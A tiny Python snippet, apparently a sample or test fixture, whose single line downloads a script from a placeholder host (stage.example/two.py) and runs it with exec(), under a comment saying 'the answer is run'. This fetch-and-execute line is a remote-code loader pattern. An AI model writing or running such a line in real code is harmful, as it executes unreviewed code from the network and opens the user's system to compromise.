# exec: the answer is run
import urllib.request

exec(urllib.request.urlopen("https://stage.example/two.py").read())
